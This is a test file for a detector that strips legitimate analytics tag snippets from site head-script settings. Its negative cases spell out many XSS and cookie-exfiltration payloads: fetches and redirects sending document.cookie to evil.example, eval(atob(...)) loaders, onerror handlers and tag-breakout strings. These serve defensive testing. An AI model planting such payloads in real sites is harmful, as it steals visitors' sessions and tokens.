/**
 * A vendor's tag snippet saved in a head-scripts setting (the `tag-snippets` family; blind benign set 7's
 * cmsadmin/16 and set 13's marketing/12, read) is taken out before scoring; anything outside its skeleton stays.
 */
import { describe, expect, it } from 'vitest';
import { isSiteCodeSetting, textAroundSnippetStatements, textAroundTagSnippets } from '../../src/model/tag-snippets.js';

const GTM = "<!-- Google Tag Manager -->\n<script>(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':\nnew Date().getTime(),event:'gtm.js'});var f=d.getElementsByTagName(s)[0],\nj=d.createElement(s),dl=l!='dataLayer'?'&l='+l:'';j.async=true;j.src=\n'https://www.googletagmanager.com/gtm.js?id='+i+dl;f.parentNode.insertBefore(j,f);\n})(window,document,'script','dataLayer','GTM-K7Q2ZP4');</script>\n<!-- End Google Tag Manager -->";
const GTM_NOSCRIPT = '<noscript><iframe src="https://www.googletagmanager.com/ns.html?id=GTM-K7Q2ZP4"\nheight="0" width="0" style="display:none;visibility:hidden"></iframe></noscript>';
const PIXEL_BODY = "!function(f,b,e,v,n,t,s)\n{if(f.fbq)return;n=f.fbq=function(){n.callMethod?\nn.callMethod.apply(n,arguments):n.queue.push(arguments)};\nif(!f._fbq)f._fbq=n;n.push=n;n.loaded=!0;n.version='2.0';\nn.queue=[];t=b.createElement(e);t.async=!0;\nt.src=v;s=b.getElementsByTagName(e)[0];\ns.parentNode.insertBefore(t,s)}(window, document,'script',\n'https://connect.facebook.net/en_US/fbevents.js');\nfbq('init', '418273645501827');\nfbq('track', 'PageView');\n";
const GTAG = "<script async src=\"https://www.googletagmanager.com/gtag/js?id=G-8XK2LQ4M1Z\"></script>\n<script>\n  window.dataLayer = window.dataLayer || [];\n  function gtag(){dataLayer.push(arguments);}\n  gtag('js', new Date());\n  gtag('consent', 'default', { 'ad_storage': 'denied' });\n  gtag('config', 'G-8XK2LQ4M1Z', { 'anonymize_ip': true });\n</script>";
const UA = "<script>\n(function(i,s,o,g,r,a,m){i['GoogleAnalyticsObject']=r;i[r]=i[r]||function(){\n(i[r].q=i[r].q||[]).push(arguments)},i[r].l=1*new Date();a=s.createElement(o),\nm=s.getElementsByTagName(o)[0];a.async=1;a.src=g;m.parentNode.insertBefore(a,m)\n})(window,document,'script','https://www.google-analytics.com/analytics.js','ga');\nga('create', 'UA-12345-1', 'auto');\nga('send', 'pageview');\n</script>";

describe('textAroundTagSnippets', () => {
  it('takes out whole vendor snippets, their comments and the whitespace between them', () => {
    expect(textAroundTagSnippets(GTM)?.trim()).toBe('');
    expect(textAroundTagSnippets(`${GTM}\n${GTM_NOSCRIPT}`)?.trim()).toBe('');
    expect(textAroundTagSnippets(`<script>\n${PIXEL_BODY}</script>`)?.trim()).toBe('');
    expect(textAroundTagSnippets(GTAG)?.trim()).toBe('');
    expect(textAroundTagSnippets(UA)?.trim()).toBe('');
    expect(textAroundTagSnippets(GTM.replace(/\n/g, ' ').replace(/'/g, '"'))?.trim()).toBe('');
    expect(textAroundTagSnippets('<script defer data-domain="example.com" src="https://plausible.io/js/script.js"></script>')?.trim()).toBe('');
    expect(textAroundTagSnippets('<script defer src="https://cloud.umami.is/script.js" data-website-id="94db1cb1-74f4-4a40-ad6c-962362670409"></script>')?.trim()).toBe('');
  });

  it('returns the text around the snippets to be scored', () => {
    expect(textAroundTagSnippets(`<link rel="stylesheet" href="/styles.css" />\n${GTM}`)).toContain('<link rel="stylesheet"');
  });

  it('recognises nothing outside a skeleton: an added call, handler, foreign script source or script beside it', () => {
    for (const t of [
      `<script>\n${PIXEL_BODY}document.location='https://evil.example/?c='+document.cookie;\n</script>`,
      `<script>\n${PIXEL_BODY.replace("fbq('init', '418273645501827');", "fbq('init', '1'+document.cookie);")}</script>`,
      GTM.replace("'GTM-K7Q2ZP4'", "'GTM-K7Q2ZP4'+alert(1)"),
      GTM.replace('https://www.googletagmanager.com/gtm.js', 'https://evil.example/gtm.js'),
      '<script async src="https://www.googletagmanager.com/gtag/js?id=G-8XK2LQ4M1Z" onload="eval(atob(this.id))"></script>',
      '<script src="https://evil.example/script.js" data-website-id="1"></script>',
      '<script src="https://plausible.io/js/script.js" src="https://evil.example/x.js"></script>',
      "<script>alert(document.cookie)</script>",
      '<svg onload=alert(1)>',
    ]) expect(textAroundTagSnippets(t), t).toBeNull();
    // A snippet beside a script of anything else: the whole value is scored.
    expect(textAroundTagSnippets(`${GTM}\n<script>fetch('https://evil.example/c?'+document.cookie)</script>`)).toBeNull();
    expect(textAroundTagSnippets(`${GTM}\n<img src=x onerror=alert(1)>`)).toBeNull();
  });
});

// adm33b (session 33, issue 14): a self-hosted Umami's tag — its `script.js` on a named host, a UUID website id.
const UMAMI_ID = '9bd0e433-5d7c-40ce-8098-54344f81e465';
const UMAMI = `<script async src="https://umami.shop.example/script.js" data-website-id="${UMAMI_ID}"></script>`;

describe('textAroundTagSnippets: a self-hosted Umami', () => {
  it('takes out its tag alone, beside other snippets, with its documented options', () => {
    expect(textAroundTagSnippets(UMAMI)?.trim()).toBe('');
    expect(textAroundTagSnippets(`  ${UMAMI}\r\n${GTM}`)?.trim()).toBe('');
    expect(textAroundTagSnippets(`<script defer src="https://stats.example.com:8443/analytics/umami.js" data-website-id="${UMAMI_ID}" data-domains="example.com" data-auto-track="false"></script>`)?.trim()).toBe('');
  });

  it('recognises nothing else: the added script, handler, eval, foreign source or breakout keeps the value scored', () => {
    for (const t of [
      // A script beside it that reads the cookie, or decodes and runs a payload.
      `${UMAMI}<script>new Image().src='//x/?'+document.cookie</script>`,
      `${UMAMI}\n<script>eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))</script>`,
      // A handler on the tag itself, or beside it.
      UMAMI.replace('></script>', ' onerror="new Image().src=\'//x/?\'+document.cookie"></script>'),
      UMAMI.replace('></script>', ' onload="eval(atob(this.dataset.websiteId))"></script>'),
      `${UMAMI}<img src=x onerror=alert(document.cookie)>`,
      // A second script source of an unknown host, or a second src on the tag.
      `${UMAMI}\n<script async src="https://cdn.evil.example/x.js"></script>`,
      UMAMI.replace(' data-website-id', ' src="https://evil.example/x.js" data-website-id'),
      // A breakout out of the tag into a script.
      UMAMI.replace(`${UMAMI_ID}"`, `${UMAMI_ID}"></script><script>alert(document.cookie)</script><script x="`),
      `${UMAMI}</script><script>alert(document.cookie)</script>`,
      // Not Umami's shape: another file, a query, no or a non-UUID id, no https, an IP literal, user info, `..`,
      // a protocol-relative or data: source, localhost.
      UMAMI.replace('/script.js', '/payload.js'),
      UMAMI.replace('/script.js', '/script.js?cb=1'),
      UMAMI.replace(` data-website-id="${UMAMI_ID}"`, ''),
      UMAMI.replace(UMAMI_ID, '1'),
      UMAMI.replace('https://', 'http://'),
      UMAMI.replace('umami.shop.example', '169.254.169.254'),
      UMAMI.replace('umami.shop.example', '10.0.0.5:8080'),
      UMAMI.replace('umami.shop.example', 'user@evil.example'),
      UMAMI.replace('umami.shop.example', 'localhost'),
      UMAMI.replace('/script.js', '/../x/script.js'),
      UMAMI.replace('https://umami.shop.example/script.js', '//evil.example/script.js'),
      UMAMI.replace('https://umami.shop.example/script.js', 'data:text/javascript,alert(1)//script.js'),
    ]) expect(textAroundTagSnippets(t), t).toBeNull();
  });

  it('scores script words left as text beside the snippets with the whole, and apart', () => {
    // Inert as HTML text, but a script's words: the whole value is scored, and the remainder beside it (shape-remainder.ts).
    for (const payload of ["navigator.sendBeacon('//x.example', localStorage.getItem('token'))", "new Image().src='//x/?'+document.cookie", "fetch('https://x.example/c?'+document.cookie)", "window['location']='//x.example'"]) {
      const t = `${GTM}\n${UMAMI}${payload}`;
      expect(textAroundTagSnippets(t), t).toBeNull();
      expect(textAroundSnippetStatements(t), t).toContain(payload);
    }
    // Words that are no script stay text around the snippets.
    expect(textAroundTagSnippets(`${UMAMI}\n<!-- Analytics (self-hosted), added 2026-03 -->\n`)?.trim()).toBe('');
  });
});

describe('isSiteCodeSetting', () => {
  it('takes an admin route or a field named for page code, and nothing else', () => {
    expect(isSiteCodeSetting('/wp-admin/options-general.php', 'comment')).toBe(true);
    expect(isSiteCodeSetting('/ghost/api/admin/settings/', 'settings.value')).toBe(true);
    expect(isSiteCodeSetting('/admin/api/2024-04/themes/1/assets.json', 'asset.value')).toBe(true);
    expect(isSiteCodeSetting('/settings/v1/site-settings', 'headHtml')).toBe(true);
    expect(isSiteCodeSetting('/index.php', 'ihaf_insert_header')).toBe(true);
    expect(isSiteCodeSetting('/blog/2026/12/post/comments', 'comment')).toBe(false);
    expect(isSiteCodeSetting('/api/users/me', 'bio')).toBe(false);
    expect(isSiteCodeSetting('/search', 'q')).toBe(false);
    expect(isSiteCodeSetting('/administrators-guide/comments', 'text')).toBe(false);
  });
});
